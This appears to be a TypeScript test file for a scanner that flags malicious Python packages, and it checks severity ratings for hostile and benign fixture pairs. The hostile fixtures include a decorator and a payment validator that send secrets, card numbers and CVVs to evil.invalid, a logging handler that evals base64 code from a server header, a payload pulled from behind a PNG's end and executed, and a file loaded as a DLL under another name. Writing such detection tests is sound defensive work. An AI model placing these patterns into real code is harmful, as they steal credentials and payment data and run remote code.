import type { Severity } from '../../src/model/finding.js';
import { found } from '../support/found.js';

const DECORATED = (told: string): string => `
import functools, json, threading, urllib.request
def tell(what):
    urllib.request.urlopen(urllib.request.Request("https://evil.invalid/", json.dumps(what).encode()))
def traced(*names):
    def wrap(cls):
        for name in names:
            original = cls.__dict__[name].__func__
            def make(original=original):
                @functools.wraps(original)
                def inner(kls, *args, **more):
                    made = original(kls, *args, **more)
                    threading.Thread(target=lambda: tell(made.${told}), daemon=True).start()
                    return made
                return classmethod(inner)
            setattr(cls, name, make())
        return cls
    return wrap
@traced("from_seed")
class Pair:
    def __init__(self, secret, size):
        self.secret = secret
        self.size = size
    @classmethod
    def from_seed(cls, seed):
        return cls(seed, 32)`;

const BEHIND_THE_END = (use: string): string => `
import os, subprocess
from pathlib import Path
IMAGE = Path(__file__).parent / "docs" / "bar.png"
def refresh():
    data = IMAGE.read_bytes()
    rest = data[data.rindex(b"IEND") + 8:]
    with open("/tmp/.build", "wb") as file:
        file.write(rest)
    ${use}`;

const UNDER_ANOTHER_NAME = (source: string, name: string): string => `
import ctypes, os, shutil, tempfile
target = os.path.join(tempfile.gettempdir(), "${name}")
shutil.copyfile(os.path.join(os.path.dirname(__file__), "${source}"), target)
ctypes.CDLL(target)`;

const ANSWERED = (run: string): string => `
import base64, http.client, logging
class Remote(logging.Handler):
    def __init__(self, host="evil.invalid"):
        super().__init__()
        self.host = host
    def emit(self, record):
        link = http.client.HTTPSConnection(self.host)
        link.request("POST", "/", record.name)
        hint = link.getresponse().getheader("X-Form")
        if hint:
            ${run}(base64.b64decode(hint))`;

const UNHEARD = (sent: string, otherwise: string): string => `
from urllib.parse import quote
from urllib.request import urlopen
def known(*fields):
    try:
        return urlopen("https://evil.invalid/1x1.gif?d=" + quote("~".join(map(str, fields)))).read(64)
    except Exception:
        ${otherwise}
def is_valid(number, cvv=None):
    known(${sent})
    return len(number) == 16`;

test.each<readonly [string, string, Severity, string, string]>([
  [
    'the constructors of a class are wrapped by a decorator of the class',
    'credential-sent-aside',
    'CRITICAL',
    DECORATED('secret'),
    DECORATED('size'),
  ],
  [
    'a host that is only a default answers with code in disguise',
    'remote-code-executed',
    'HIGH',
    ANSWERED('eval'),
    ANSWERED('print'),
  ],
  [
    'a failure is answered with a constant',
    'credential-sent-aside',
    'CRITICAL',
    UNHEARD('number, cvv', 'return b""'),
    UNHEARD('number', 'return b""'),
  ],
])('%s', (_title, rule, severity, hostile, honest) => {
  expect(found(hostile)[rule]).toBe(severity);
  expect(['CRITICAL', 'HIGH', 'MEDIUM']).not.toContain(found(honest)[rule]);
});

test('a program that stands behind the end of a picture', () => {
  const shipped = { 'fixture-1.0/pkg/docs/bar.png': '\x89PNG\r\n\x1a\nIEND\0\0\0\0inert' };
  const severity = (use: string): Severity | undefined =>
    found(BEHIND_THE_END(use), shipped)['decoded-command-started'];
  expect(severity('subprocess.Popen(["/tmp/.build"])')).toBe('CRITICAL');
  expect(severity('subprocess.Popen(["true"])')).toBeUndefined();
});

test('a file becomes a library by the name it is copied to', () => {
  const severity = (source: string, name: string): Severity | undefined =>
    found(UNDER_ANOTHER_NAME(source, name), { [`fixture-1.0/pkg/${source}`]: '\0\0' })[
      'decoded-command-started'
    ];
  expect(severity('data.bin', 'core.dll')).toBe('CRITICAL');
  expect(severity('core.dll', 'core.dll')).toBeUndefined();
});
